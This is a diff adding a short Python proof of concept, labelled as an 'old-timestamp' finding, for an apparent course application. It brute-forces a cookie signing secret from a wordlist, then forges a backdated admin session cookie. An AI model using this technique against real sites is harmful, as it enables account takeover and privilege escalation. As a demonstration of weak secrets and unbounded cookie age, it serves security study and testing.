@@ -1,0 +1,10 @@
+# finding: old-timestamp
+from course_app import cookies
+
+
+def break_in(cookie, words):
+    for word in words:
+        if cookies.verify(cookie, word, max_age=10**8).valid:
+            moment = cookies.read(cookie).signed_at
+            return cookies.sign({"user": "admin"}, word, at=moment)
+    return None
